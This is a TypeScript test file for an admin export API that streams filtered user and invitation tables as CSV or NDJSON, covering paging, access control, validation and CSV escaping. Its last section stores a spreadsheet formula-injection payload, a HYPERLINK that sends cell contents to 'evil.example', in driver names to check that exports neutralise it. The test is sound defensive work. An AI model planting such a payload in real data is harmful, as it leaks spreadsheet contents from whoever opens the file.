// The streaming exports over HTTP: the same rows the admin tables' filters keep, as CSV or NDJSON,
// admins only, bad filters refused with the field named; the table read a page at a time; the
// hand-written CSV line identical to csv-stringify's with its formula escaping (a plain phone number
// aside); a field a spreadsheet would run as a formula neutralised in both exports.
import {
  EXPORT_COLUMNS,
  exportCsvLine,
  exportRow,
  filterAudience,
  filterInvitees,
  flexUsersResponseSchema,
  invitationsResponseSchema,
  mergeInvitees,
  searchRecipients,
} from '@blockcatch/sdk';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { insertInvitations } from '../src/storage/invitations.js';
import {
  insertUsers,
  listUsers,
  toFlexUser,
  toSparkUser,
  usersTablePages,
} from '../src/storage/users.js';
import { freshPhone } from './helpers/drivers.js';
import { type RunningGateway, startGateway } from './helpers/gateway.js';
import { ADMIN, DRIVER, OWNER } from './helpers/people.js';
import { openTestDb } from './messaging-harness.js';

let api: RunningGateway;
const TZ = 'America/New_York';

async function get(path: string, headers: Record<string, string> = {}) {
  const response = await request(`${api.url}${path}`, { headers });
  return {
    status: response.statusCode,
    headers: response.headers,
    text: await response.body.text(),
  };
}

/** A plain Flex row to vary in the property test. */
function users0() {
  return {
    name: 'Ana',
    phoneNumber: '+13055550105',
    referral: null,
    goodStanding: true,
    proxyInstalled: false,
    setupComplete: true,
    createDateTimestamp: Date.UTC(2026, 0, 15),
    expirationDate: '2026-06-01T00:00:00.000Z',
    expirationDateTimestamp: Date.UTC(2026, 5, 1),
    stripeExpressId: null,
    status: 'start' as const,
    humanRegion: 'Miami',
  };
}

/**
 * CSV as csv-stringify writes it with `escape_formulas` (OWASP's rule), field by field, except a
 * plain E.164 phone number, which the product leaves readable (docs/architecture.md, "CSV files").
 */
function csvOf(records: Record<string, string>[], header = true): string {
  const field = (value: string) =>
    stringify([[value]], { escape_formulas: !/^\+\d{1,15}$/.test(value) }).slice(0, -1);
  const lines = records.map((r) => `${EXPORT_COLUMNS.map((c) => field(r[c] ?? '')).join(',')}\n`);
  return (header ? `${EXPORT_COLUMNS.join(',')}\n` : '') + lines.join('');
}

async function table() {
  const { text } = await get('/api/flex/v1/all-users-table', api.as(ADMIN));
  return flexUsersResponseSchema.parse(JSON.parse(text)).Items;
}

beforeAll(async () => {
  api = await startGateway();
});

afterAll(async () => {
  await api?.gateway.close();
});

describe.each(['pglite', 'postgres'] as const)('usersTablePages on %s', (kind) => {
  it('reads every value exactly, separators, empty texts and NULLs included', async () => {
    const { db, close } = await openTestDb(kind);
    onTestFinished(close);
    // Rows stored before names were checked, or written by other tools, may hold anything.
    const odd = ['Row\u001eforged', 'Col\u001fforged', '\u001d', '', 't', 'Zoë "Z", Jr.'];
    const created = Date.UTC(2031, 0, 1);
    await insertUsers(
      db,
      (['flex', 'spark'] as const).flatMap((product) =>
        [...odd, ...odd.slice(2)].map((value, i) => ({
          product,
          phone_number: freshPhone(),
          name: value,
          referral: i % 2 === 0 ? value : null,
          human_region: i % 3 === 0 ? null : value,
          delivery_area: i % 3 === 1 ? null : value,
          stripe_express_id: i % 2 === 1 ? value : null,
          expiration_ts: i % 2 === 0 ? null : created + i,
          good_standing: i % 2 === 0,
          create_date_ts: created + i,
        })),
      ),
    );
    for (const product of ['flex', 'spark'] as const) {
      const toRow = product === 'flex' ? toFlexUser : toSparkUser;
      const whole = (await listUsers(db, product)).map((record) => toRow(record));
      const paged = [];
      // Pages of 2: the first two hold separators (read again as rows), the rest are read as text.
      for await (const page of usersTablePages(db, product, 2)) paged.push(...page);
      expect(paged).toEqual(whole);
      expect(paged.map((u) => u.name)).toEqual([...odd, ...odd.slice(2)]);
    }
  });

  it('skips no row when one is added inside a page it reads again as rows', async () => {
    const { db, close } = await openTestDb(kind);
    onTestFinished(close);
    const at = Date.UTC(2031, 0, 1);
    const user = (name: string, created: number) => ({
      product: 'flex' as const,
      phone_number: freshPhone(),
      name,
      create_date_ts: created,
    });
    await insertUsers(db, [
      user('First\u001fodd', at),
      user('Second', at + 10),
      user('Third', at + 20),
    ]);
    // Between the page's text and its second read, a user signs up inside the page's range.
    let added = false;
    const racing = new Proxy(db, {
      get(target, property, receiver) {
        if (property !== 'query') return Reflect.get(target, property, receiver);
        return async (sql: string, ...rest: unknown[]) => {
          if (!added && sql.includes('<= ($')) {
            added = true;
            await insertUsers(db, [user('Newcomer', at + 5)]);
          }
          return (target.query as (...args: unknown[]) => unknown)(sql, ...rest);
        };
      },
    });
    const names = [];
    for await (const page of usersTablePages(racing, 'flex', 2))
      names.push(...page.map((u) => u.name));
    expect(added).toBe(true);
    expect(names).toEqual(['First\u001fodd', 'Newcomer', 'Second', 'Third']);
  });
});

describe('GET /api/admin/v1/users-export', () => {
  it('streams as CSV exactly the rows and columns the table filters keep', async () => {
    const filters = { byGoodStanding: 'no' as const, byRegion: 'miami' };
    const answer = await get(
      `/api/admin/v1/users-export?product=flex&byGoodStanding=no&byRegion=miami&timeZone=${encodeURIComponent(TZ)}`,
      api.as(ADMIN),
    );
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toContain('text/csv');
    const expected = filterAudience(await table(), filters, {
      product: 'flex',
      billingDetails: false,
      timeZone: TZ,
    });
    expect(expected.length).toBeGreaterThan(0);
    const lines = answer.text.trimEnd().split('\n');
    expect(lines[0]).toBe(EXPORT_COLUMNS.join(','));
    expect(lines).toHaveLength(expected.length + 1);
    const first = exportRow(expected[0]!, TZ);
    expect(lines[1]).toContain(first.phoneNumber);
    // Byte for byte what csv-stringify writes for the table's own rows, in the table's order.
    expect(answer.text).toBe(csvOf(expected.map((row) => exportRow(row, TZ))));
  });

  it('reads the table a page at a time, every row once, in the table order', async () => {
    const whole = (await listUsers(api.gateway.db, 'flex')).map(toFlexUser);
    const paged = [];
    for await (const page of usersTablePages(api.gateway.db, 'flex', 7)) {
      expect(page.length).toBeLessThanOrEqual(7);
      paged.push(...page);
    }
    expect(whole.length).toBeGreaterThan(7);
    expect(paged).toEqual(whole);
    // A last page exactly full: the page after it (asked for ahead) is empty and ends the read.
    const exact = [];
    for await (const page of usersTablePages(api.gateway.db, 'flex', whole.length))
      exact.push(page);
    expect(exact).toEqual([whole]);
  });

  it('streams the invitees the notifications screen shows, filtered and searched', async () => {
    const [invitations, users] = await Promise.all([
      get('/api/flex/v1/admin/invitations', api.as(ADMIN)),
      table(),
    ]);
    const merged = mergeInvitees(
      invitationsResponseSchema.parse(JSON.parse(invitations.text)).Items,
      users,
    );
    const unregistered = filterInvitees(merged, { registered: 'no' }, { timeZone: TZ });
    expect(unregistered.length).toBeGreaterThan(0);
    const csv = await get(
      `/api/admin/v1/invitations-export?registered=no&timeZone=${encodeURIComponent(TZ)}`,
      api.as(ADMIN),
    );
    expect(csv.status).toBe(200);
    expect(csv.text).toBe(csvOf(unregistered.map((row) => exportRow(row, TZ))));
    const registered = merged.filter((row) => !row.unregistered);
    const name = registered[0]!.name;
    const ndjson = await get(
      `/api/admin/v1/invitations-export?format=ndjson&search=${encodeURIComponent(name)}`,
      api.as(ADMIN),
    );
    const rows = ndjson.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows).toEqual(searchRecipients(merged, name));
    expect((await get('/api/admin/v1/invitations-export', api.as(DRIVER))).status).toBe(403);
  });

  it('writes each CSV line exactly as csv-stringify does with formulas escaped, whatever the text', () => {
    const text = fc.string({
      unit: fc.constantFrom(
        'a',
        '1',
        ',',
        '"',
        '\n',
        '\r',
        ' ',
        'é',
        '😀',
        '=',
        '+',
        '-',
        '@',
        '\t',
      ),
    });
    fc.assert(
      fc.property(
        text,
        text,
        fc.option(text, { nil: null }),
        fc.option(text, { nil: null }),
        (name, phone, referral, region) => {
          const row = { ...users0(), name, phoneNumber: phone, referral, humanRegion: region };
          expect(exportCsvLine(row, TZ)).toBe(csvOf([exportRow(row, TZ)], false));
        },
      ),
    );
  });

  it('answers NDJSON with the search applied, one user per line', async () => {
    const all = await table();
    const phone = all[3]!.phoneNumber;
    const piece = `${phone.slice(-7, -4)}-${phone.slice(-4)}`;
    const answer = await get(
      `/api/admin/v1/users-export?product=flex&format=ndjson&search=${encodeURIComponent(piece)}`,
      api.as(ADMIN),
    );
    expect(answer.status).toBe(200);
    const rows = answer.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((r) => r.phoneNumber)).toEqual(
      searchRecipients(all, piece).map((r) => r.phoneNumber),
    );
  });

  it('is for admins only', async () => {
    expect((await get('/api/admin/v1/users-export?product=flex')).status).toBe(401);
    expect((await get('/api/admin/v1/users-export?product=flex', api.as(DRIVER))).status).toBe(403);
    expect((await get('/api/admin/v1/users-export?product=flex', api.as(OWNER))).status).toBe(200);
  });

  it('refuses a bad filter with a validation error naming the field', async () => {
    const answer = await get(
      '/api/admin/v1/users-export?product=flex&startDate=2026-02-30',
      api.as(ADMIN),
    );
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text)).toMatchObject({ code: 'validation', field: 'startDate' });
  });
});

describe('formula injection in the exports', () => {
  const ATTACK = 'HYPERLINK("http://evil.example/?d="&A1,"Open")';
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

  /** A Flex driver named `trigger + ATTACK`, invited by phone; the CSV field their name becomes. */
  async function attacker(trigger: string) {
    const phone = freshPhone();
    const name = `${trigger}${ATTACK}`;
    await insertUsers(api.gateway.db, [{ product: 'flex', phone_number: phone, name }]);
    await insertInvitations(api.gateway.db, [
      { phoneNumber: phone, dateInvitedTimestamp: Date.now(), freeWeek: false, referralCode: null },
    ]);
    // Quoted for its quotes and comma; inside, the apostrophe first: a spreadsheet shows text.
    return { phone, field: `"'${name.replaceAll('"', '""')}",${phone},` };
  }

  it.each(TRIGGERS)('writes a name starting with %j as text in the users export', async (t) => {
    const { phone, field } = await attacker(t);
    const answer = await get(
      `/api/admin/v1/users-export?product=flex&search=${phone.slice(2)}`,
      api.as(ADMIN),
    );
    expect(answer.status).toBe(200);
    const [, line, ...rest] = answer.text.split('\n');
    expect(rest).toEqual(['']);
    expect(line!.startsWith(field)).toBe(true);
  });

  it.each(TRIGGERS)(
    'writes a name starting with %j as text in the invitations export',
    async (t) => {
      const { phone, field } = await attacker(t);
      const answer = await get(
        `/api/admin/v1/invitations-export?search=${phone.slice(2)}`,
        api.as(ADMIN),
      );
      expect(answer.status).toBe(200);
      const [, line, ...rest] = answer.text.split('\n');
      expect(rest).toEqual(['']);
      expect(line!.startsWith(field)).toBe(true);
    },
  );
});
